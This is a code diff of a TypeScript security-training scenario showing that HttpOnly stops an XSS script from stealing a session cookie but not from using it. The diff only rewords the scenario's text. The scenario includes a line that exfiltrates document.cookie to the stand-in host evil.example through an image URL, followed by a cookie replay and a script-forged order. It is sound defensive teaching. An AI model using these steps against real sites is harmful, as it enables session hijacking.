@@ -2,17 +2,17 @@ import type { Actor } from './engine/cast.ts';
 import { sidOf } from './engine/identity.ts';
 import { scenario } from './engine/scenario.ts';
 
-/** What the script wrote behind the question mark, as the attacker's server got it. */
+/** Returns the query string from the script, as the attacker's server received it. */
 const loot = (browser: Actor) => decodeURIComponent(browser.last.text.split('?')[1] ?? '');
 
 export default scenario({
   slug: 'httponly-vs-xss',
   chapter: 'cookie',
   title: 'What a script can steal',
-  question: 'If a foreign script runs in my page, does HttpOnly save me?',
+  question: 'If an attacker’s script runs in my page, does HttpOnly protect me?',
   weakness: 'cookie-readable-by-scripts',
   actors: { alice: 'victim', mallory: 'attacker' },
-  // Answers with what it was asked for, so that one can see what arrived there.
+  // Echoes the requested path, so that the response shows what arrived.
   sites: { 'https://evil.example': ({ path }) => ({ body: path }) },
   references: [
     'ASVS V3.3.4',
@@ -32,7 +32,7 @@ export default scenario({
       title: 'Alice logs in',
       purpose: 'Get a session cookie',
       narration:
-        'Among the shop’s scripts is one of Mallory’s: an unescaped comment or a hacked supplier of statistics is enough. To the browser it is a script of the shop’s page like any other.',
+        'One of the scripts in the shop’s page is Mallory’s. An unescaped comment (an XSS hole) or a hacked analytics supplier is enough. To the browser it is a script of the page like any other.',
       act: ({ alice }) => alice.post('/auth/login', { email: 'alice@shop.example', password: 'rabbit-hole-7' }),
       ask: {
         question: 'Is the session cookie marked HttpOnly?',
@@ -43,22 +43,22 @@ export default scenario({
     },
     {
       title: 'The script sends document.cookie to evil.example',
-      purpose: 'Carry the cookie away',
+      purpose: 'Steal the cookie',
       narration:
-        'Reading document.cookie is one line, and an image whose address contains what was read carries it to any server. HttpOnly means: the browser sends this cookie, and shows it to no script.',
+        'Reading document.cookie takes one line, and an image whose URL contains the result sends it to any server. HttpOnly means that the browser sends this cookie but shows it to no script.',
       act: ({ alice }) => alice.image(`https://evil.example/loot?${encodeURIComponent(alice.readCookies())}`),
       ask: {
-        question: 'Did the session id arrive at evil.example?',
+        question: 'Did the session ID arrive at evil.example?',
         answer: ({ alice }) => (loot(alice).includes(sidOf(alice.cookie()) ?? '-') ? 'yes' : 'no'),
         vulnerable: 'yes',
         protected: 'no',
       },
     },
     {
-      title: 'Mallory sends what she got',
-      purpose: 'Use the loot elsewhere',
+      title: 'Mallory sends what she received',
+      purpose: 'Use it on another computer',
       narration:
-        'She sends it from her own computer, where it goes on working when Alice has closed the page. Nothing in a cookie says which browser it was meant for.',
+        'She sends it from her own computer, where it works even after Alice closes the page. A cookie does not say which browser it was issued to.',
       act: ({ mallory, alice }) => mallory.get('/me', { cookie: loot(alice) }),
       ask: {
         question: 'Who does the shop think she is?',
@@ -68,13 +68,13 @@ export default scenario({
       },
     },
     {
-      title: 'The script looks for the id in the shop’s answers',
-      purpose: 'Try the way around HttpOnly',
+      title: 'The script looks for the session ID in a response',
+      purpose: 'Try to bypass HttpOnly',
       narration:
-        'A script may fetch whatever the page may fetch, and read it. So no answer may repeat the session id: the list of Alice’s devices names them by a hash of the id.',
+        'A script may fetch and read everything that the page may. So no response may contain the session ID: the list of Alice’s devices names each session by a hash of its ID.',
       act: ({ alice }) => alice.get('/sessions'),
       ask: {
-        question: 'Is the session id in the answer?',
+        question: 'Is the session ID in the response?',
         answer: ({ alice }) => (alice.last.text.includes(sidOf(alice.cookie()) ?? '-') ? 'yes' : 'no'),
         vulnerable: 'no',
         protected: 'no',
@@ -82,9 +82,9 @@ export default scenario({
     },
     {
       title: 'The script orders a hat in Alice’s name',
-      purpose: 'Use the cookie without seeing it',
+      purpose: 'Use the cookie without reading it',
       narration:
-        'It asks GET /me for the token that the shop’s own pages send, and posts like one of them. The browser adds the cookie as it does for every request of this page. This is what HttpOnly does not stop: use, as long as the page is open.',
+        'The script gets the CSRF token from GET /me and posts like one of the shop’s own pages. The browser adds the cookie, as it does for every request of this page. HttpOnly does not stop this use while the page is open.',
       act: async ({ alice }) => {
         await alice.get('/me');
         await alice.post('/basket', { item: 'hat' });
@@ -98,13 +98,13 @@ export default scenario({
       },
     },
     {
-      title: 'The script writes a session cookie of its own',
-      purpose: 'Replace what it cannot read',
+      title: 'The script writes its own session cookie',
+      purpose: 'Replace the session cookie',
       narration:
-        'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. A browser lets no script write over a cookie that is HttpOnly.',
+        'A script that can write the session cookie can put Alice into a session of its choice, or out of hers. A browser lets no script overwrite an HttpOnly cookie.',
       act: ({ alice }) => alice.writeCookie('__Host-sid=written-by-a-script; Path=/; Secure'),
       ask: {
-        question: 'Has the browser taken it?',
+        question: 'Did the browser accept it?',
         answer: ({ alice }) => (alice.cookie()?.value === 'written-by-a-script' ? 'yes' : 'no'),
         vulnerable: 'yes',
         protected: 'no',
@@ -112,9 +112,9 @@ export default scenario({
     },
     {
       title: 'Alice opens her account page',
-      purpose: 'See what is left to her',
+      purpose: 'See the effect on Alice',
       narration:
-        'The browser sends what is in the jar now. A value that the shop did not sign counts as no cookie, and then she has to log in again.',
+        'The browser sends the cookie that is in the jar now. The shop treats a value that it did not sign as no cookie, and then Alice has to log in again.',
       act: ({ alice }) => alice.get('/me'),
       ask: {
         question: 'What does the shop answer?',
@@ -128,8 +128,8 @@ export default scenario({
     'HttpOnly stops the theft of the session, not its use: a script in the page still acts as the user while the page is open.',
   fix: `cookie: { httpOnly: true, secure: true, sameSite: 'lax', path: '/' }`,
   notTheFix: [
-    'Keeping the session id in localStorage: every script of the page reads it, and there is no HttpOnly for it.',
-    'Encrypting the cookie’s value: a thief does not have to understand it, only to send it.',
-    'A CSRF token against the script: it runs in the page and reads the token like the page’s own scripts. Against use help only escaping, a content security policy, and asking for the password before what is dangerous.',
+    'Keeping the session ID in localStorage: every script of the page can read it, and localStorage has no HttpOnly.',
+    'Encrypting the cookie’s value: a thief does not need to understand it, only to send it.',
+    'A CSRF token against the script: it runs in the page and reads the token like the page’s own scripts. Only escaping, a content security policy and asking for the password before dangerous actions help.',
   ],
 });
